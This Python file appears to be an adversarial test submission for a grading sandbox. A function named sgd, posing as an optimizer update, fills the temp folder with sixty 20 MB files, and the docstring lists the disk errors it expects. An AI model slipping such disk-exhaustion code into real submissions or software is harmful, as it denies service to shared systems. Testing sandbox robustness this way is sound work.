"""Fill the temporary folder.

Loses: sgd
Says: No space left
Says in B: File too large, because no tmpfs ends all files together there
"""

import tempfile


def sgd(w, dw, config=None):
    for number in range(60):
        with open(f"{tempfile.gettempdir()}/attacked-{number}", "wb") as file:
            file.write(bytes(20 << 20))
    return w, config
